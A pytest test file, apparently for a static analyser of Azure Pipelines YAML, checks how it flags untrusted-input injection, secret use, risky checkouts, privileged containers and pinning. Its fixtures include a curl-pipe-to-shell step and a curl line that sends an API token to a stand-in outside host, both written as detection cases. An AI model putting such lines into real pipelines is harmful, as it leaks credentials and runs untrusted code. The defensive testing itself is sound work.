"""Facts of whole pipelines, each with its place."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from textwrap import dedent
from typing import Any

import pytest

from policyd.errors import DocumentError, InputTooLarge
from policyd.models.facts import StageFact
from policyd.models.input import PipelineKind
from policyd.pipeline.azure import read
from policyd.pipeline.front_end import FrontEndRead
from policyd.pipeline.reading import ReadPipeline, read_pipeline

FIXTURES = Path(__file__).parent / "fixtures"
OUTSIDE = "pr: [main]\n"


def find_fixture(path: str) -> bytes | None:
    file = FIXTURES / path
    return file.read_bytes() if file.is_file() else None


def fixture(name: str) -> ReadPipeline:
    content = find_fixture(name)
    assert content is not None
    return read_pipeline(name, content, find_fixture)


def facts_of(
    text: str,
    files: Mapping[str, str] | None = None,
    kind: PipelineKind = "pipeline",
    path: str = "azure-pipelines.yml",
) -> FrontEndRead:
    included = {name: dedent(content).encode() for name, content in (files or {}).items()}
    found = read(path, dedent(text).encode(), kind, included)
    assert set(found.missing) <= set(included) or not files
    return found


def place(read_file: FrontEndRead | ReadPipeline, fact: Any) -> str:
    found = read_file.source_map.place(fact.at)
    assert found is not None
    return f"{found.file}:{found.line}:{found.column}"


def stage_of(read_file: FrontEndRead | ReadPipeline, name: str) -> StageFact:
    return next(stage for stage in read_file.facts.stages if stage.name == name)


@pytest.fixture(scope="module")
def release() -> ReadPipeline:
    return fixture("release.yml")


# A realistic pipeline.


def test_stages_of_the_model_are_jobs_in_the_order_of_the_file(release: ReadPipeline) -> None:
    assert [(stage.name, stage.group, stage.needs) for stage in release.facts.stages] == [
        ("Build.Compile", "Build", []),
        ("Build.Windows", "Build", ["Build.Compile"]),
        ("Gate.wait", "Gate", ["Build.Compile", "Build.Windows"]),
        ("Deploy.Web", "Deploy", ["Gate.wait", "Build.Compile", "Build.Windows"]),
        ("Deploy.Notify", "Deploy", ["Deploy.Web"]),
    ]
    assert [place(release, stage) for stage in release.facts.stages[:2]] == ["release.yml:67:9", "release.yml:100:9"]


def test_a_stage_says_where_it_runs_and_how_long(release: ReadPipeline) -> None:
    compiled, web, gate = (stage_of(release, name) for name in ("Build.Compile", "Deploy.Web", "Gate.wait"))
    assert (compiled.runner, compiled.self_hosted) == (["ubuntu-22.04"], False)
    assert (compiled.timeout_seconds, compiled.explicit_timeout) == (1200, True)
    assert (web.runner, web.self_hosted) == (["private-pool", "docker"], True)
    assert (web.timeout_seconds, web.explicit_timeout) == (3600, False)
    assert (gate.runner, gate.self_hosted, gate.has_source) == (["server"], False, False)
    assert (web.environment, web.purposes, web.has_source) == ("production", ["deploy"], False)


def test_conditions_environments_and_validations_guard_what_follows(release: ReadPipeline) -> None:
    compiled, web = stage_of(release, "Build.Compile"), stage_of(release, "Deploy.Web")
    assert (compiled.untrusted, compiled.privileged, compiled.guards) == (True, True, [])
    assert (web.untrusted, web.privileged, web.guards) == (False, False, ["approval", "event", "protected"])
    assert (web.has_secrets, web.writes) == (True, True)
    # `always()` in the same stage; the stage itself waits for the gate.
    assert stage_of(release, "Deploy.Notify").guards == ["approval", "event", "protected"]
    assert stage_of(release, "Deploy.Notify").writes


def test_triggers_have_their_filters_and_trust(release: ReadPipeline) -> None:
    assert [
        (one.event, one.trust, one.branches, one.parameters, place(release, one)) for one in release.facts.triggers
    ] == [
        ("push", "internal", ["main", "release/*", "!release/old", "refs/tags/v*"], [], "release.yml:2:1"),
        ("pull_request", "untrusted", ["main"], [], "release.yml:8:1"),
        ("schedule", "trusted", ["main"], [], "release.yml:14:5"),
        ("manual", "internal", [], ["note"], "release.yml:18:1"),
        ("pipeline", "unknown", [], [], "release.yml:48:16"),
        ("webhook", "unknown", [], ["deployHook"], "release.yml:50:16"),
    ]


def test_references_are_taken_apart(release: ReadPipeline) -> None:
    found = {(one.kind, one.text): one for one in release.facts.references}
    task = found["task", "AzureCLI@2"]
    assert (task.owner, task.name, task.ref, task.pinned, task.stage) == ("", "AzureCLI", "2", False, "Deploy.Web")
    assert task.inputs["azuresubscription"] == "production-connection"
    remote = found["template", "build/steps.yml@templates"]
    assert (remote.owner, remote.ref, remote.local) == ("Platform/pipeline-templates", "refs/tags/v3", False)
    assert (remote.pinned, remote.inputs) == (False, {"mode": "full"})
    assert found["template", "templates/scan.yml"].local
    commit = found["repository", "example/scripts@0123456789abcdef0123456789abcdef01234567"]
    assert (commit.owner, commit.name, commit.pinned) == ("example", "scripts", True)
    image = found["image", "registry.example.com/build/dotnet:8.0"]
    assert (image.pinned, image.stage, place(release, image)) == (False, "Build.Compile", "release.yml:39:14")
    assert found["image", next(text for _, text in found if text.startswith("postgres@"))].pinned
    assert found["image", "example/unused:latest"].stage == ""


def test_commands_stand_on_their_own_line_also_in_a_template(release: ReadPipeline) -> None:
    found = {one.text: one for one in release.facts.commands}
    injected = found['echo "Building $(Build.SourceVersionMessage)"']
    assert (injected.untrusted, place(release, injected)) == (True, "release.yml:81:15")
    called = found['echo "${{ parameters.label }}" > label.txt']
    assert (called.untrusted, called.stage, place(release, called)) == (
        True,
        "Build.Compile",
        "templates/scan.yml:20:7",
    )
    assert not found["./scan.sh --level ${{ parameters.level }}"].untrusted
    assert "echo never" not in found
    assert "echo quick" not in found
    assert "echo thorough" in found


def test_a_variable_of_the_environment_is_data(release: ReadPipeline) -> None:
    found = {one.text: one for one in release.facts.commands}
    assert (found['echo "$TITLE"'].untrusted, found['echo "$TITLE"'].reads_untrusted) == (False, ["TITLE"])
    predefined = found['Write-Host "$env:BUILD_SOURCEBRANCHNAME"']
    assert (predefined.shell, predefined.reads_untrusted) == ("pwsh", ["BUILD_SOURCEBRANCHNAME"])


def test_shells_are_those_of_the_step_and_the_machine(release: ReadPipeline) -> None:
    found = {one.text: one.shell for one in release.facts.commands}
    assert found["echo $(title)"] == "cmd"
    assert found["Write-Host $(apiToken)"] == "powershell"
    assert found["az webapp deploy --name $(siteName)"] == "bash"


def test_secrets_are_seen_where_they_are_used(release: ReadPipeline) -> None:
    assert [(one.name, one.stage, one.sink, place(release, one)) for one in release.facts.secrets] == [
        ("release-secrets", "", "environment", "release.yml:54:12"),
        ("apiToken", "Build.Windows", "script", "release.yml:109:36"),
        ("System.AccessToken", "Deploy.Notify", "environment", "release.yml:159:35"),
    ]
    found = {one.program: one.reads_secrets for one in release.facts.commands if one.reads_secrets}
    assert found == {"Write-Host": ["apiToken"], "curl": ["SYSTEM_ACCESSTOKEN"]}


def test_an_output_carries_an_outsiders_text_to_another_stage(release: ReadPipeline) -> None:
    flows = [
        (one.kind, one.stage, one.name, one.into, one.sink, one.place, place(release, one))
        for one in release.facts.flows
        if one.sink == "script"
    ]
    assert flows == [
        (
            "call",
            "Build.Compile",
            "label",
            "templates/scan.yml",
            "script",
            "templates/scan.yml:20",
            "release.yml:93:22",
        ),
        ("output", "Build.Compile", "info.title", "Build.Windows", "script", "release.yml:108", "release.yml:88:73"),
        ("output", "Build.Compile", "info.title", "Deploy.Web", "script", "release.yml:147", "release.yml:88:73"),
    ]
    assert stage_of(release, "Build.Compile").outputs == ["info.title"]


def test_what_a_pull_request_checks_out_and_runs(release: ReadPipeline) -> None:
    (checkout,) = release.facts.checkouts
    assert (checkout.text, checkout.untrusted, checkout.persists_credentials) == ("checkout: self", True, True)
    assert (checkout.runs, place(release, checkout)) == ("npm ci", "release.yml:73:23")


def test_artifacts_and_caches(release: ReadPipeline) -> None:
    upload, download = release.facts.artifacts
    assert (upload.direction, upload.name, upload.whole_workspace, upload.foreign) == (
        "upload",
        "everything",
        True,
        False,
    )
    assert (download.foreign, download.untrusted, download.into_workspace) == (True, True, False)
    (cache,) = release.facts.caches
    assert (cache.paths, cache.restores, cache.saves, cache.untrusted) == (
        ["$(Pipeline.Workspace)/.npm"],
        True,
        True,
        False,
    )


def test_containers_have_their_options(release: ReadPipeline) -> None:
    builder = release.facts.containers[0]
    assert (builder.privileged, builder.stage, place(release, builder)) == (True, "Build.Compile", "release.yml:39:14")
    kinds = {(one.kind, one.stage) for one in release.facts.effects}
    assert {("privileged-container", "Build.Compile"), ("host-socket", "Build.Compile")} <= kinds


def test_variables_have_their_values_and_places(release: ReadPipeline) -> None:
    found = {one.name: one for one in release.facts.variables}
    assert place(release, found["NODE_TLS_REJECT_UNAUTHORIZED"]) == "templates/variables.yml:3:33"
    assert (found["message"].untrusted, found["message"].literal) == (True, False)
    assert (found["siteName"].value, found["siteName"].literal) == ("example-site", True)
    assert found["SYSTEM_ACCESSTOKEN"].secret
    assert "tls-off" in {one.kind for one in release.facts.effects}


def test_expressions_say_what_they_read_and_where_they_land(release: ReadPipeline) -> None:
    found = {(one.text, one.sink): one for one in release.facts.expressions}
    macro = found["$(Build.SourceVersionMessage)", "script"]
    assert (macro.contexts, macro.untrusted, place(release, macro)) == (
        ["variables.Build.SourceVersionMessage"],
        True,
        "release.yml:81:30",
    )
    output = found["$[ dependencies.Compile.outputs['info.title'] ]", "environment"]
    assert output.contexts == ["dependencies.Compile.outputs.info.title"]
    assert not found["$(siteName)", "script"].untrusted


# Who can start what.


@pytest.mark.parametrize(
    ("pr", "untrusted"),
    [("pr: [main]", True), ("pr:\n  branches: {include: ['*']}", True), ("pr: none", False), ("", False)],
)
def test_only_a_pr_trigger_makes_stages_outsiders(pr: str, untrusted: bool) -> None:
    found = facts_of(f"{pr}\nsteps:\n- script: make\n")
    (stage,) = found.facts.stages
    assert (stage.name, stage.untrusted, stage.privileged) == ("Job", untrusted, False)
    assert [one.untrusted for one in found.facts.checkouts] == ([True] if untrusted else [])


@pytest.mark.parametrize(
    ("extra", "privileged"),
    [
        ("- script: echo\n", False),
        ("- script: deploy\n  env: {T: $(deployToken)}\n", True),
        ("- script: deploy\n  env: {T: $(System.AccessToken)}\n", True),
        ("- task: AzureWebApp@1\n  inputs: {azureSubscription: production}\n", True),
        ("- task: AzureKeyVault@2\n  inputs: {KeyVaultName: vault}\n", True),
        ("- task: DownloadSecureFile@1\n  inputs: {secureFile: key.pem}\n", True),
        ("- task: Npm@1\n  inputs: {command: ci}\n", False),
    ],
)
def test_a_pull_request_has_powers_where_secrets_or_connections_are_used(extra: str, privileged: bool) -> None:
    found = facts_of(f"{OUTSIDE}steps:\n{extra}")
    (stage,) = found.facts.stages
    assert (stage.untrusted, stage.privileged) == (True, privileged)


def test_a_skipped_stage_skips_what_depends_on_it() -> None:
    text = f"""
        {OUTSIDE.strip()}
        jobs:
        - job: A
          condition: ne(variables['Build.Reason'], 'PullRequest')
        - job: B
          dependsOn: A
        - job: C
          dependsOn: A
          condition: always()
        """
    found = facts_of(text)
    assert [(one.name, one.untrusted, one.guards) for one in found.facts.stages] == [
        ("A", False, ["event"]),
        ("B", False, ["event"]),
        ("C", True, []),
    ]


def test_a_compile_time_if_guards_too() -> None:
    text = f"""
        {OUTSIDE.strip()}
        jobs:
        - ${{{{ if eq(variables['Build.SourceBranch'], 'refs/heads/main') }}}}:
          - job: Release
        - ${{{{ else }}}}:
          - job: Test
        """
    found = facts_of(text)
    assert [(one.name, one.untrusted, one.guards) for one in found.facts.stages] == [
        ("Release", False, ["event", "protected"]),
        ("Test", True, []),
    ]


def test_a_manual_stage_waits_for_a_person() -> None:
    found = facts_of("stages:\n- stage: A\n  trigger: manual\n  jobs:\n  - job: a\n")
    assert found.facts.stages[0].guards == ["approval"]


def test_stages_run_one_after_the_other_unless_they_say_otherwise() -> None:
    text = """
        stages:
        - stage: A
          jobs: [{job: a}]
        - stage: B
          jobs: [{job: b}]
        - stage: C
          dependsOn: []
          jobs: [{job: c}]
        - stage: D
          dependsOn: [A, C]
          jobs: [{job: d}, {job: e, dependsOn: d}]
        """
    found = facts_of(text)
    assert {one.name: one.needs for one in found.facts.stages} == {
        "A.a": [],
        "B.b": ["A.a"],
        "C.c": [],
        "D.d": ["A.a", "C.c"],
        "D.e": ["D.d"],
    }


# Injection.


@pytest.mark.parametrize(
    "name",
    [
        "Build.SourceVersionMessage",
        "Build.SourceBranchName",
        "Build.SourceBranch",
        "Build.RequestedFor",
        "System.PullRequest.SourceBranch",
        "Build.SourceVersionAuthor",
        "build.sourceversionmessage",
    ],
)
@pytest.mark.parametrize(
    "step",
    [
        "- script: echo $(NAME)\n",
        "- bash: echo $(NAME)\n",
        "- pwsh: echo $(NAME)\n",
        "- task: Bash@3\n  inputs: {targetType: inline, script: echo $(NAME)}\n",
        "- task: PowerShell@2\n  inputs: {targetType: inline, script: echo $(NAME)}\n",
        "- task: CmdLine@2\n  inputs: {script: echo $(NAME)}\n",
        "- task: AzureCLI@2\n  inputs: {scriptType: bash, scriptLocation: inlineScript, inlineScript: echo $(NAME)}\n",
        "- task: AzurePowerShell@5\n  inputs: {ScriptType: InlineScript, Inline: echo $(NAME)}\n",
        "- task: PythonScript@0\n  inputs: {scriptSource: inline, script: print('$(NAME)')}\n",
        "- task: SSH@0\n  inputs: {runOptions: inline, inline: echo $(NAME)}\n",
        "- script: echo ${{ variables['NAME'] }}\n",
    ],
)
def test_an_outsiders_text_in_a_script_is_an_injection(name: str, step: str) -> None:
    found = facts_of("steps:\n" + step.replace("NAME", name))
    assert [one.untrusted for one in found.facts.expressions if one.sink == "script"] == [True]
    assert any(one.untrusted for one in found.facts.commands)


@pytest.mark.parametrize(
    "text",
    [
        "$(System.PullRequest.PullRequestId)",
        "$(Build.BuildId)",
        "$(Build.SourceVersion)",
        "$(System.PullRequest.TargetBranch)",
        "${{ parameters.name }}",
        "${{ eq(variables['Build.SourceVersionMessage'], 'x') }}",
    ],
)
def test_what_no_outsider_chooses_is_harmless(text: str) -> None:
    found = facts_of(f"parameters:\n- name: name\ntrigger: none\nsteps:\n- script: echo {text}\n")
    assert not any(one.untrusted for one in found.facts.expressions)


def test_a_condition_that_leaves_pull_requests_out_makes_their_branch_empty() -> None:
    text = """
        steps:
        - script: echo $(System.PullRequest.SourceBranch) $(Build.SourceBranchName)
          condition: eq(variables['Build.SourceBranch'], 'refs/heads/main')
        - script: echo $(Build.SourceVersionMessage)
          condition: eq(variables['Build.SourceBranch'], 'refs/heads/main')
        """
    assert [one.untrusted for one in facts_of(text).facts.expressions if one.sink == "script"] == [False, False, True]


def test_a_branch_that_only_the_file_names_is_no_outsiders() -> None:
    text = "trigger: [main]\npr: none\nsteps:\n- script: echo $(Build.SourceBranchName)\n"
    assert [one.untrusted for one in facts_of(text).facts.expressions] == [False]


def test_taint_goes_through_variables_parameters_and_steps() -> None:
    text = """
        variables:
        - name: first
          value: $(Build.SourceVersionMessage)
        - name: second
          value: prefix-$(first)
        jobs:
        - job: A
          steps:
          - bash: echo "##vso[task.setvariable variable=third]$SECOND"
          - bash: echo $(third)
          - bash: echo "$THIRD"
          - bash: echo "##vso[task.setvariable variable=fine]$(Build.BuildId)"
          - bash: echo $(fine)
        - job: B
          steps:
          - bash: echo $(third)
        """
    found = facts_of(text).facts
    assert [(one.text, one.stage, one.untrusted) for one in found.expressions if one.sink == "script"] == [
        ("$(third)", "A", True),
        ("$(Build.BuildId)", "A", False),
        ("$(fine)", "A", False),
    ]
    assert [one.reads_untrusted for one in found.commands][:3] == [["SECOND"], [], ["THIRD"]]
    assert not found.commands[-1].untrusted  # variables of a step end with its job


def test_a_command_that_a_shell_puts_in_is_no_variable() -> None:
    text = "variables: {date: x}\nsteps:\n- bash: echo $(pwd) $(date) $(imageName)\n"
    assert [one.text for one in facts_of(text).facts.expressions] == ["$(date)", "$(imageName)"]


@pytest.mark.parametrize(
    ("parameter", "is_open"),
    [
        ("{name: p}", True),
        ("{name: p, type: string, default: x}", True),
        ("{name: p, values: [a, b]}", False),
        ("{name: p, type: boolean}", False),
    ],
)
def test_a_parameter_that_takes_any_text_is_open(parameter: str, is_open: bool) -> None:
    text = f"parameters:\n- {parameter}\nvariables:\n  copy: ${{{{ parameters.p }}}}\nsteps:\n- bash: echo $(copy)\n"
    for kind in ("pipeline", "template"):
        expressions = facts_of(text, kind=kind).facts.expressions
        assert [(one.open, one.untrusted) for one in expressions] == [(is_open, False)] * 2


def test_a_webhook_brings_an_outsiders_text() -> None:
    text = """
        resources:
          webhooks:
          - webhook: hook
            connection: incoming
        steps:
        - bash: echo ${{ parameters.hook.issue.title }}
        """
    (expression,) = facts_of(text).facts.expressions
    assert (expression.untrusted, expression.contexts) == (True, ["parameters.hook.issue.title"])


# Checkouts.


def test_a_pull_request_fetched_by_hand_is_an_outsiders_code() -> None:
    text = """
        steps:
        - checkout: self
        - bash: |
            git fetch origin pull/$(System.PullRequest.PullRequestNumber)/merge:theirs
            git checkout theirs
            npm ci
        - bash: git checkout $(System.PullRequest.SourceBranch)
        - bash: git checkout main
        """
    found = facts_of(text)
    checkouts = [(one.text, one.untrusted, one.mutable, one.runs) for one in found.facts.checkouts]
    assert checkouts == [
        ("checkout: self", False, False, "npm ci"),
        ("git checkout theirs", True, True, "npm ci"),
        ("git checkout $(System.PullRequest.SourceBranch)", True, True, ""),
    ]
    assert place(found, found.facts.checkouts[1]) == "azure-pipelines.yml:6:5"


def test_other_repositories_are_checked_out_at_their_ref() -> None:
    text = """
        pr: [main]
        resources:
          repositories:
          - {repository: tools, type: git, name: Platform/tools, ref: refs/heads/main}
        steps:
        - checkout: tools
        - checkout: git://Platform/other@refs/tags/v1
        """
    checkouts = facts_of(text).facts.checkouts
    assert [(one.text, one.ref, one.untrusted) for one in checkouts] == [
        ("checkout: tools", "refs/heads/main", False),
        ("checkout: git://Platform/other@refs/tags/v1", "refs/tags/v1", False),
    ]


def test_a_job_checks_out_by_itself_and_a_deployment_does_not() -> None:
    text = """
        pr: [main]
        jobs:
        - job: A
          steps: [{script: make}]
        - job: B
          steps: [{checkout: none}, {script: make}]
        - deployment: C
          environment: x
          strategy: {runOnce: {deploy: {steps: [{script: make}]}}}
        """
    found = facts_of(text).facts
    assert {one.name: one.has_source for one in found.stages} == {"A": True, "B": False, "C": False}
    assert [(one.stage, one.runs) for one in found.checkouts] == [("A", "make")]


# Files.


@pytest.mark.parametrize(
    ("step", "foreign", "untrusted"),
    [
        ("download: current\n", False, False),
        ("download: upstream\n", True, True),
        ("download: pinned\n", True, False),
        ("task: DownloadPipelineArtifact@2\n  inputs: {buildType: current}\n", False, False),
        ("task: DownloadPipelineArtifact@2\n  inputs: {source: specific, pipeline: 1}\n", True, True),
        (
            "task: DownloadPipelineArtifact@2\n  inputs: {source: specific, runVersion: latestFromBranch,"
            " runBranch: refs/heads/main}\n",
            True,
            False,
        ),
        (
            "task: DownloadBuildArtifacts@1\n  inputs: {buildType: specific, buildVersionToDownload: latest}\n",
            True,
            True,
        ),
        ("task: DownloadPackage@1\n  inputs: {feed: x}\n", True, False),
    ],
)
def test_artifacts_of_other_runs_are_foreign(step: str, foreign: bool, untrusted: bool) -> None:
    resources = "resources:\n  pipelines:\n  - pipeline: upstream\n  - {pipeline: pinned, branch: main}\n"
    (use,) = facts_of(f"{resources}steps:\n- {step}").facts.artifacts
    assert (use.direction, use.foreign, use.untrusted) == ("download", foreign, untrusted)


def test_a_script_of_the_repository_runs_the_working_tree() -> None:
    text = """
        steps:
        - task: Bash@3
          inputs:
            filePath: scripts/build.sh
            arguments: --fast $(Build.SourceBranchName)
        """
    found = facts_of(text)
    (command,) = found.facts.commands
    assert command.argv == ["bash", "scripts/build.sh", "--fast", "$(Build.SourceBranchName)"]
    assert place(found, command) == "azure-pipelines.yml:5:15"
    assert "runs-workspace" in {one.kind for one in found.facts.effects}


# Machines and containers.


@pytest.mark.parametrize(
    ("pool", "runner", "own"),
    [
        ("pool: {vmImage: ubuntu-latest}", ["ubuntu-latest"], False),
        ("pool: private", ["private"], True),
        ("pool: {name: Default}", ["Default"], True),
        ("pool: {name: Azure Pipelines, vmImage: x}", ["x", "Azure Pipelines"], False),
        ("pool: Hosted Ubuntu 1604", ["Hosted Ubuntu 1604"], False),
        ("pool: server", ["server"], False),
        ("pool: ${{ parameters.pool }}", ["${{ parameters.pool }}"], False),
        ("variables: {own: private}\npool: $(own)", ["private"], True),
        ("", [], False),
    ],
)
def test_a_pool_of_ones_own_is_self_hosted(pool: str, runner: list[str], own: bool) -> None:
    (stage,) = facts_of(f"{pool}\nsteps: [{{script: x}}]\n").facts.stages
    assert (stage.runner, stage.self_hosted) == (runner, own)


def test_a_deployment_to_machines_runs_on_them() -> None:
    text = """
        jobs:
        - deployment: A
          environment: {name: machines, resourceType: VirtualMachine}
          strategy: {rolling: {maxParallel: 2, deploy: {steps: [{script: x}]}}}
        """
    (stage,) = facts_of(text).facts.stages
    assert (stage.self_hosted, stage.environment, stage.guards) == (True, "machines", ["approval"])


def test_a_matrix_gives_images_and_variables() -> None:
    text = """
        jobs:
        - job: A
          strategy:
            matrix:
              old: {image: 'python:3.8', vm: ubuntu-20.04}
              new: {image: 'python:3.13', vm: ubuntu-24.04}
          pool: {vmImage: $(vm)}
          container: $(image)
          steps: [{script: echo $(image)}]
        """
    found = facts_of(text).facts
    assert [one.text for one in found.references] == ["python:3.8", "python:3.13"]
    assert found.stages[0].runner == ["ubuntu-20.04", "ubuntu-24.04"]


def test_a_container_of_a_step_and_the_socket_of_the_host() -> None:
    text = """
        resources:
          containers:
          - {container: tools, image: example/tools:1, mapDockerSocket: true}
        steps:
        - script: x
          target: tools
        """
    found = facts_of(text).facts
    assert [(one.image, one.volumes) for one in found.containers] == [
        ("example/tools:1", ["/var/run/docker.sock:/var/run/docker.sock"])
    ]
    assert "host-socket" in {one.kind for one in found.effects}


# Tasks.


def test_a_task_of_the_marketplace_has_a_publisher_and_a_whole_version_is_fixed() -> None:
    text = "steps:\n- task: acme.extension.scan@1\n- task: Gulp@0.1.2 # why\n- task: x@${{ parameters.v }}\n"
    first, second, third = facts_of(text).facts.references
    assert (first.owner, first.name, first.ref, first.pinned) == ("acme.extension", "scan", "1", False)
    assert (second.name, second.pinned, second.comment) == ("Gulp", True, "why")
    assert third.computed


def test_steps_that_are_switched_off_do_nothing() -> None:
    assert facts_of("steps:\n- script: curl http://x | sh\n  enabled: false\n").facts.commands == []


def test_failures_that_are_ignored_are_said() -> None:
    found = facts_of("steps:\n- script: trivy image x\n  continueOnError: true\n")
    ignored = [one for one in found.facts.effects if one.kind == "ignores-failure"]
    assert [place(found, one) for one in ignored] == ["azure-pipelines.yml:3:20"]


# Wrong files.


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("- a\n", "1:1"),
        ("trigger: none\n", "1:1"),
        ("steps: make\n", "1:8"),
        ("steps:\n- make\n", "2:3"),
        ("steps:\n- displayName: x\n", "2:3"),
        ("steps:\n- script: [a]\n", "2:3"),
        ("jobs:\n- steps: []\n", "2:3"),
        ("stages:\n- jobs: []\n", "2:3"),
        ("jobs:\n- job: A\n  variables: x\n", "3:14"),
        ("variables:\n- value: x\nsteps: []\n", "2:3"),
        ("variables:\n  a: {b: c}\nsteps: []\n", "2:3"),
        ("resources:\n  repositories:\n  - name: x\nsteps: []\n", "3:5"),
        ("parameters: x\nsteps: []\n", "1:13"),
        ("pool: [a]\nsteps: [{script: x}]\n", "1:1"),
        ("extends: {parameters: {}}\n", "1:1"),
        ("steps:\n- script: a\n  script: b\n", "3:3"),
    ],
)
def test_what_azure_would_refuse_is_an_error_with_its_place(text: str, where: str) -> None:
    with pytest.raises(DocumentError) as refused:
        facts_of(text)
    assert refused.value.where == f"azure-pipelines.yml:{where}"


def test_unknown_keys_are_left_alone() -> None:
    text = "new: {a: [b]}\nsteps:\n- script: x\n  new: {a: $(Build.SourceBranch)}\n"
    assert len(facts_of(text).facts.commands) == 1


def test_too_many_jobs_are_refused() -> None:
    with pytest.raises(InputTooLarge):
        facts_of("jobs:\n" + "".join(f"- job: j{number}\n" for number in range(5_001)))


def test_jobs_in_a_circle_are_read() -> None:
    text = "jobs:\n- job: A\n  dependsOn: B\n- job: B\n  dependsOn: A\n"
    assert [one.needs for one in facts_of(text).facts.stages] == [["B"], ["A"]]


@pytest.mark.parametrize(
    ("step", "purposes"),
    [
        ("task: Docker@2\n  inputs: {repository: x}\n", ["build", "publish"]),
        ("task: trivy@1\n", ["scan"]),
        ("task: PublishTestResults@2\n", ["test"]),
        ("task: DotNetCoreCLI@2\n  inputs: {command: test}\n", ["test"]),
        ("task: TerraformTaskV4@4\n  inputs: {command: plan}\n", []),
        ("task: TerraformTaskV4@4\n  inputs: {command: apply}\n", ["deploy"]),
        ("task: AzureWebApp@1\n", ["deploy"]),
        ("task: ManifestGeneratorTask@0\n", ["sbom"]),
    ],
)
def test_a_job_is_for_what_its_tasks_do(step: str, purposes: list[str]) -> None:
    assert facts_of(f"steps:\n- {step}").facts.stages[0].purposes == purposes


def test_a_secret_put_into_a_script_reaches_what_the_script_does() -> None:
    text = """
        steps:
        - bash: |
            curl -d "x=$(apiToken)" https://elsewhere.example/x
            echo $(apiToken)
            COPY=$(apiToken)
            echo "$COPY"
        """
    found = facts_of(text)
    effects = [(one.kind, place(found, one)) for one in found.facts.effects if one.secret]
    assert effects == [
        ("secret-send", "azure-pipelines.yml:4:5"),
        ("secret-print", "azure-pipelines.yml:5:5"),
        ("secret-print", "azure-pipelines.yml:7:5"),
    ]
